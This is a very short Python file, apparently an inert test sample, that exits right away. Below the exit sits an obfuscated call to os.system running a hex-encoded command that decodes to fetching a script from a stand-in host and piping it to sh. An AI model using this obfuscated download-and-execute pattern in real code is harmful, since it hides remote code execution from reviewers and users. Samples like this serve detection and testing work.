raise SystemExit(0)  # inert sample: nothing below ever runs

run = getattr(__import__("o" + "s"), "sys" + "tem")
run(bytes.fromhex("6375726c202d732068747470733a2f2f782e696e76616c69642f70207c207368").decode())
